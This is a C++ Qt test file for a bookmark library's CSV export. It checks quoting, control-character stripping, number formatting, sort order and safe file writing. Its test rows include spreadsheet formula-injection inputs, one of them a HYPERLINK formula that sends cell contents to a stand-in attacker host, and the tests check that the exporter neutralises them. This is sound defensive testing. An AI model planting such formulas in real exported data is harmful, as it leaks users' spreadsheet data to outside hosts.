#include "Fixtures.h"
#include "TestHarness.h"
#include "core/metadata/MetadataImport.h"
#include "core/share/ExportService.h"
#include "core/text/TextUtils.h"

#include <QDir>
#include <QLocale>

#include <limits>

namespace {

const QByteArray header =
    "PDF File,Page Number,Page Span,Bookmark Title,Level,Genre,Style,First Release Year,"
    "Composer,Tempo,Rating,Spotify URL,YouTube URL";

BookmarkEntry entry(const QString &file, qint64 page, const QString &title = QStringLiteral("T"))
{
    BookmarkEntry e = Fixtures::bookmark(QStringLiteral("/books/") + file, page, title);
    e.pdfFileName = file;
    return e;
}

// The lines after the header.
QList<QByteArray> bodyLines(const BookmarkList &list)
{
    return ExportService::csvText(list).split('\n').mid(1);
}

} // namespace

class ExportServiceTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void line_data()
    {
        QTest::addColumn<QString>("genre"); // how a text cell is written
        QTest::addColumn<QString>("title");
        QTest::addColumn<QVariant>("rating"); // invalid: absent
        QTest::addColumn<QVariant>("year");
        QTest::addColumn<QByteArray>("line"); // never the path or the page count
        const QVariant none;
        const double nan = std::numeric_limits<double>::quiet_NaN();
        QTest::newRow("plain") << "T"
                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,T,,,,,,,");
        QTest::newRow("empty") << ""
                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,,,,,,,,");
        QTest::newRow("comma") << "a,b"
                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,\"a,b\",,,,,,,");
        QTest::newRow("quote") << "say \"hi\""
                               << "T" << none << none
                               << QByteArray("b.pdf,3,1,T,0,\"say \"\"hi\"\"\",,,,,,,");
        // A stored text's C0 controls but tab (line feeds and carriage returns among them) are left out,
        // as every way in leaves them out; the other line breaks are quoted.
        QTest::newRow("line feed") << "1\n2"
                                   << "T" << none << none << QByteArray("b.pdf,3,1,T,0,12,,,,,,,");
        QTest::newRow("carriage return") << "1\r2"
                                         << "T" << none << none << QByteArray("b.pdf,3,1,T,0,12,,,,,,,");
        // What a spreadsheet would run gets an apostrophe; an apostrophe of the text's own is kept as is
        // unless the reader would take it for ours.
        QTest::newRow("formula, tab, blanks")
            << "=\t x "
            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'=\t x ,,,,,,,");
        QTest::newRow("link formula")
            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
            << "T" << none << none
            << QByteArray(
                   "b.pdf,3,1,T,0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",,,,,,,");
        QTest::newRow("plus") << "+1"
                              << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'+1,,,,,,,");
        QTest::newRow("minus") << "-x"
                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'-x,,,,,,,");
        QTest::newRow("at") << "@SUM(A1)"
                            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'@SUM(A1),,,,,,,");
        QTest::newRow("tab first") << "\tx"
                                   << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'\tx,,,,,,,");
        QTest::newRow("carriage return first") << "\rx"
                                               << "T" << none << none << QByteArray("b.pdf,3,1,T,0,x,,,,,,,");
        QTest::newRow("apostrophe before formula")
            << "'=x"
            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,''=x,,,,,,,");
        QTest::newRow("own apostrophe")
            << "'Round Midnight"
            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'Round Midnight,,,,,,,");
        QTest::newRow("two apostrophes") << "''=x"
                                         << "T" << none << none << QByteArray("b.pdf,3,1,T,0,'''=x,,,,,,,");
        QTest::newRow("formula sign inside")
            << "a=b-c"
            << "T" << none << none << QByteArray("b.pdf,3,1,T,0,a=b-c,,,,,,,");
        QTest::newRow("vertical tab") << "1\v2"
                                      << "T" << none << none << QByteArray("b.pdf,3,1,T,0,12,,,,,,,");
        QTest::newRow("form feed") << "1\f2"
                                   << "T" << none << none << QByteArray("b.pdf,3,1,T,0,12,,,,,,,");
        QTest::newRow("next line") << "1\u00852"
                                   << "T" << none << none
                                   << QByteArray("b.pdf,3,1,T,0,\"1\xc2\x85"
                                                 "2\",,,,,,,");
        QTest::newRow("line separator") << "1\u20282"
                                        << "T" << none << none
                                        << QByteArray("b.pdf,3,1,T,0,\"1\xe2\x80\xa8"
                                                      "2\",,,,,,,");
        QTest::newRow("paragraph separator") << "1\u20292"
                                             << "T" << none << none
                                             << QByteArray("b.pdf,3,1,T,0,\"1\xe2\x80\xa9"
                                                           "2\",,,,,,,");
        QTest::newRow("non-ASCII") << "\u00e9\U0001D11E"
                                   << "T" << none << none
                                   << QByteArray("b.pdf,3,1,T,0,\xc3\xa9\xf0\x9d\x84\x9e,,,,,,,");
        QTest::newRow("4 and a year")
            << "T"
            << "T" << QVariant(4.0) << QVariant(1959) << QByteArray("b.pdf,3,1,T,0,T,,1959,,,4.0,,");
        QTest::newRow("0") << "T"
                           << "T" << QVariant(0.0) << none << QByteArray("b.pdf,3,1,T,0,T,,,,,0.0,,");
        QTest::newRow("rounds") << "T"
                                << "T" << QVariant(3.96) << none << QByteArray("b.pdf,3,1,T,0,T,,,,,4.0,,");
        QTest::newRow("binary 4.25") << "T"
                                     << "T" << QVariant(4.25) << none
                                     << QByteArray("b.pdf,3,1,T,0,T,,,,,4.2,,");
        QTest::newRow("large, negative") << "T"
                                         << "T" << QVariant(-1234567.5) << QVariant(-30)
                                         << QByteArray("b.pdf,3,1,T,0,T,,-30,,,-1234567.5,,");
        // A title stored before titles were folded on their way in is folded on its way out.
        QTest::newRow("title with control characters")
            << ""
            << "Ctl\x01\x07\x1b\x7f"
               "chars\nNext"
            << none << none << QByteArray("b.pdf,3,1,Ctlchars Next,0,,,,,,,,");
        // Only the file's first byte-order mark is the file's; one opening a cell is the cell's text.
        QTest::newRow("genre opening with a byte-order mark")
            << QString(QChar(0xFEFF)) + QStringLiteral("Jazz") << "T" << none << none
            << QByteArray("b.pdf,3,1,T,0,\xEF\xBB\xBFJazz,,,,,,,");
        QTest::newRow("not a number") << "T"
                                      << "T" << QVariant(nan) << none << QByteArray("b.pdf,3,1,T,0,T,,,,,,,");
    }

    void line()
    {
        QFETCH(QString, genre);
        QFETCH(QString, title);
        QFETCH(QVariant, rating);
        QFETCH(QVariant, year);
        QFETCH(QByteArray, line);
        BookmarkEntry e = entry(QStringLiteral("b.pdf"), 3, title);
        e.genre = genre;
        e.pdfFilePath = QStringLiteral("/secret/b.pdf");
        e.totalPages = 777;
        if (rating.isValid())
            e.rating = rating.toDouble();
        if (year.isValid())
            e.firstReleaseYear = year.toLongLong();
        // A locale with a decimal comma and digit grouping must not leak into the file.
        QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
        const QByteArray text = ExportService::csvText({e});
        QLocale::setDefault(QLocale::c());
        QCOMPARE(text, header + '\n' + line);
        // and reads back as it was
        const auto records = MetadataImport::parseCSV(text);
        QVERIFY(records && records.value().size() == 1);
        QCOMPARE(records.value().first().genre, std::optional(TextUtils::fieldText(genre)));
        QCOMPARE(records.value().first().title, std::optional(TextUtils::foldedTitle(title)));
    }

    void emptyListIsHeaderOnly() { QCOMPARE(ExportService::csvText({}), header); }

    void order_data()
    {
        QTest::addColumn<BookmarkList>("input");
        QTest::addColumn<QStringList>("titles"); // in export order
        QTest::newRow("pages numerically")
            << BookmarkList{entry("a.pdf", 10, "p10"), entry("a.pdf", 2, "p2")} << QStringList{"p2", "p10"};
        QTest::newRow("capital Z before small b")
            << BookmarkList{entry("b.pdf", 1, "b"), entry("Z.pdf", 1, "Z"), entry("a.pdf", 1, "a")}
            << QStringList{"Z", "a", "b"};
        // U+FF21 is one UTF-16 unit; U+1D11E is two, starting with D834, yet the larger code point.
        QTest::newRow("supplementary plane after U+FF21")
            << BookmarkList{entry("\U0001D11E.pdf", 1, "clef"), entry("\uFF21.pdf", 1, "fullwidth")}
            << QStringList{"fullwidth", "clef"};
        // Composed, e-acute is U+00E9, after "f"; decomposed it would begin with "e".
        QTest::newRow("composed form decides") << BookmarkList{entry("e\u0301.pdf", 1, "decomposed"),
                                                               entry("f.pdf", 1, "f"), entry("e.pdf", 1, "e")}
                                               << QStringList{"e", "f", "decomposed"};
        QTest::newRow("ties keep their order")
            << BookmarkList{entry("a.pdf", 5, "first"), entry("a.pdf", 1, "one"), entry("a.pdf", 5, "second"),
                            entry("a.pdf", 5, "third")}
            << QStringList{"one", "first", "second", "third"};
    }

    void order()
    {
        QFETCH(BookmarkList, input);
        QFETCH(QStringList, titles);
        QStringList written;
        for (const QByteArray &line : bodyLines(input))
            written << QString::fromUtf8(line.split(',').value(3));
        QCOMPARE(written, titles);
    }

    // A write that fails half-way leaves the previous export whole and says so.
    void writeFile()
    {
        const QString path =
            TestHarness::home() + QStringLiteral("/out/") + ExportService::suggestedFileName();
        const BookmarkList list = Fixtures::realisticLibrary(200);
        QVERIFY(ExportService::writeCSV(path, list));
        const QByteArray written = TestHarness::readFile(path);
        QCOMPARE(written, ExportService::csvText(list));
        {
            TestHarness::FileSizeLimit limit(4096);
            QVERIFY(!ExportService::writeCSV(path, Fixtures::realisticLibrary(500, 2)));
        }
        QCOMPARE(TestHarness::readFile(path), written);
        QCOMPARE(QDir(TestHarness::home() + QStringLiteral("/out")).entryList(QDir::Files).size(), 1);
    }
};

LYRAFOLD_TEST_MAIN(ExportServiceTest)
#include "tst_exportservice.moc"
